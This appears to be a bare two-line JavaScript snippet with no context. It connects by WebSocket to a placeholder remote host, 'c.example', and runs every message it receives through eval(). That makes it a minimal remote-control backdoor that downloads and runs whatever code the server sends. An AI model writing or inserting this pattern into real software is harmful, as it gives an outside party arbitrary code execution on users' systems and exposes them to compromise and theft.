const w = new WebSocket('wss://c.example');
w.onmessage = (e) => eval(e.data);
